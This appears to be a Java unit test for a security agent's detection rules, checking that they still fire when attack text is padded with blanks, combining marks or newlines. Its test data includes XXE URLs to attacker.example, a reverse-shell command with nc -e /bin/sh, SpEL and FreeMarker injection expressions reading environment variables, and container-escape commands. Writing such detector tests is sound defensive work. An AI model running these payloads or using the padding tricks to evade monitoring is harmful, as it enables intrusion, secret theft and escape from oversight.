package whorl.rules;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;
import static whorl.rules.Events.event;
import static whorl.rules.Events.written;
import static whorl.rules.ExampleEvents.forRequest;

import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import whorl.event.AgentEvent;
import whorl.event.EventType;
import whorl.rules.engine.RuleSet;
import whorl.rules.match.Rule;

/**
 * Texts that an attacker makes long, so that the search of a regular expression is given up before
 * it comes to what matters, or breaks into lines, so that it ends before that.
 */
class PaddedTextTest {
  private static final RuleSet PACK = RuleSet.load(List.of(), Set.of(), true);

  /** The stack of an application's thread, if nothing else is asked for. */
  private static final long STACK_BYTES = 1 << 20;

  /** The agent leaves so many characters at the beginning and the end of a text of over 8,192. */
  private static final int BEGINNING = 6_144;

  private static final int END = 2_048;
  private static final String FETCHED = "XML Entity Fetched from another Host for a Request";
  private static final String READ = "XML Entity Read from a File for a Request";
  private static final String CLASS = "Class Loaded from the Network";
  private static final String TYPE = "Expression Holding a Type Reference, from a Request";
  private static final String SHELL = "Shell or Download Tool Started by the Application";
  private static final String ENCODED = "Encoded or Inline Script Started";
  private static final String REVERSE = "Command Line of a Reverse Shell";
  private static final String MARKS = "'" + "\u0301".repeat(600) + "'";

  static Stream<Arguments> longTexts() {
    String blanks = " ".repeat(4_000);
    String manyBlanks = " ".repeat(10_000);
    String path = "a".repeat(2_100) + ".jar!/";
    return Stream.of(
        arguments(FETCHED, entity(blanks + "http://attacker.example/a")),
        arguments(FETCHED, entity("jar:" + blanks + "url:http://attacker.example/a.jar!/b")),
        arguments(FETCHED, entity(cut(manyBlanks + "http://attacker.example/a"))),
        arguments(FETCHED, entity(cut("jar:" + manyBlanks + "http://attacker.example/a.jar!/b"))),
        arguments(READ, entity(blanks + "file:///etc/hostname")),
        arguments(READ, entity(cut(manyBlanks + "file:///etc/hostname"))),
        arguments(READ, entity(blanks + "../etc/hostname")),
        arguments(CLASS, loaded("jar:" + blanks + "http://attacker.example/a.jar!/b/")),
        arguments(CLASS, loaded(cut("jar:" + manyBlanks + "http://attacker.example/a.jar!/b/"))),
        arguments(CLASS, loaded(cut("jar:" + manyBlanks + "http://attacker.example/" + path))),
        arguments(FETCHED, entity(cut(manyBlanks + "http://attacker.example/" + path))),
        arguments(
            FETCHED, entity(cut(" ".repeat(BEGINNING - 2) + "http://attacker.example/" + path))),
        arguments(FETCHED, entity(cut(" ".repeat(BEGINNING - 9) + "url:http://a.example/" + path))),
        arguments(READ, entity(cut(" ".repeat(BEGINNING - 3) + "file:///etc/" + path))),
        arguments(
            CLASS,
            loaded(cut("jar:" + " ".repeat(BEGINNING - 6) + "http://attacker.example/" + path))),
        arguments(ENCODED, started("python3" + " -B".repeat(2_500) + " -c x")),
        arguments(ENCODED, started(MARKS + " python3 -c x")),
        arguments(REVERSE, started("nc ".repeat(2_700) + "-e /bin/sh")),
        arguments(REVERSE, started(MARKS + "\nnc 192.0.2.7 -e /bin/sh")),
        arguments(TYPE, script(MARKS + ".concat(T(java.lang.System).getenv())")),
        arguments(TYPE, script(MARKS + ".concat(T(System).getenv())")),
        arguments(TYPE, script(MARKS + ".concat(T(java nio file Files))")),
        arguments(TYPE, script("T(".repeat(1_900) + "(T (.java" + " .".repeat(60) + "nio)")),
        arguments(TYPE, script("T" + "\0".repeat(3_900) + "(java nio)")),
        arguments(
            TYPE, script("new" + " ".repeat(3_950) + "String('a').concat(T(java.lang.System))")),
        arguments(
            "Expression that Reaches for the Runtime",
            script(MARKS + "; Java.type('java.nio.file.Files')")),
        arguments(
            "Expression that Reaches for the Runtime",
            template("\\".repeat(3_900) + "${('a'+'b')?new()}")),
        arguments(
            "Expression that Reaches for the Runtime",
            template("\\ab".repeat(1_300) + "${'\\x0061'?new()}")),
        arguments(SHELL, started("env" + " A=".repeat(2_700) + " sh -c id")),
        arguments(SHELL, started("find" + " a".repeat(4_000) + " -exec /bin/sh -c id ;")),
        arguments(SHELL, started("env sh -c id " + "/".repeat(8_000))),
        arguments(SHELL, started("nice sh -c id" + " /a".repeat(2_600))),
        arguments(SHELL, started("env sh -c id" + " ".repeat(8_000))),
        arguments(SHELL, started("env A=" + " ".repeat(8_000) + " sh -c id")));
  }

  static Stream<Arguments> textsOfLines() {
    return Stream.of(
        arguments("Written where the System Starts Things", written("/etc/profile.d/a\n.sh")),
        arguments(
            "Link to a Sensitive Place Made",
            event(EventType.FILE_LINK, "path", "/data/a", "target", "/proc/1/root/a\nb")),
        arguments(
            "Sensitive File Looked for by a Request",
            forRequest(EventType.FILE_PROBE, "r1", "path", "/proc/1/root/a\nb")),
        arguments("Program for Leaving a Container Started", started("nsenter -t 1 sh -c a\nb")),
        arguments("Memory or Threads of a Process Read by a Tool", started("gdb -p 1 -ex a\nb")),
        arguments("Program for Accounts or Privileges Started", started("su -c a\nb")));
  }

  private static AgentEvent entity(String systemId) {
    return forRequest(EventType.XML_ENTITY, "r1", "systemId", systemId, "kind", "entity");
  }

  private static AgentEvent loaded(String codeSource) {
    return event(EventType.CLASS_LOAD, "className", "a.B", "codeSource", codeSource);
  }

  private static AgentEvent script(String source) {
    return forRequest(EventType.SCRIPT_EVAL, "r1", "engine", "spel", "source", source);
  }

  private static AgentEvent template(String source) {
    return forRequest(EventType.SCRIPT_EVAL, "r1", "engine", "freemarker", "source", source);
  }

  private static AgentEvent started(String command) {
    return event(EventType.PROCESS_START, "command", command, "pid", 7L);
  }

  /** As the agent cuts a text. */
  private static String cut(String text) {
    return text.substring(0, BEGINNING) + "…" + text.substring(text.length() - END);
  }

  @ParameterizedTest
  @MethodSource("longTexts")
  void longText_isSearchedToItsEnd(String title, AgentEvent event) throws InterruptedException {
    List<String> matching = new ArrayList<>();
    Thread thread = new Thread(null, () -> matching.addAll(titles(event)), "http-1", STACK_BYTES);
    thread.start();
    thread.join();

    assertThat(matching).contains(title);
  }

  @ParameterizedTest
  @MethodSource("textsOfLines")
  void textOfLines_isSearchedToItsEnd(String title, AgentEvent event) {
    assertThat(titles(event)).contains(title);
  }

  private static List<String> titles(AgentEvent event) {
    return PACK.matching(event).stream().map(Rule::title).toList();
  }
}
